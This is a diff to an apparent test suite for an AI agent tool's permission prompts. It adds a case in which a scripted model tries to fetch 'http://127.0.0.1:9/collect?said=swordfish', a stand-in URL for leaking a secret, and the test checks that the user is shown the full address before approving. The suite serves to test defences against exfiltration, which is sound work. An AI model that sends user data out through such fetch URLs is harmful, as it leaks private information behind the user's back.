@@ -24,7 +24,8 @@ REFRACT = os.path.abspath(sys.argv[1])
 CASES = []
 FOLDER = pathlib.Path(tempfile.mkdtemp(prefix="refract-attacks-"))
 MODEL = "openai-chat:gpt-4o"
-TOOLS = """tools:
+TOOLS = """fetch: yes
+tools:
   remove_it:
     description: removes a thing
     command: [echo, removed]
@@ -93,6 +94,23 @@ def _():
         t.wait_for("a: always remove_it, with any arguments")
         t.wait_for(re.compile(r'this has \d+ rows: scroll up to "\? run remove_it" and read it'))
         expect(re.search(r'\? run remove_it \{"what":"the\s+thing', t.everything()), t.picture())
+
+
+@case("a host that a model wants fetched from is asked about with the whole address")
+def _():
+    url = "http://127.0.0.1:9/collect?said=swordfish"
+    s = Streamer()
+    s.says["look"] = Say(["all done"], calls=[("read_file", {"file_path": url}), ("view_image", {"path": url})])
+    with s, chat(s) as t:
+        ready(t)
+        ask(t, "look")
+        t.wait_for("y: yes, once   n: no   a: always from 127.0.0.1")
+        expect(re.search(r"\? fetch " + re.escape(url) + r"\s+which tells all of this address to 127\.0\.0\.1",
+                         t.everything()), t.picture())
+        answerable(t)
+        t.type("a")
+        t.wait_for("all done")
+        expect(t.everything().count("? fetch ") == 1 and "yes, always from 127.0.0.1" in t.everything(), t.picture())
 
 
 @case("what is too long to be read is not run, and nobody is asked")
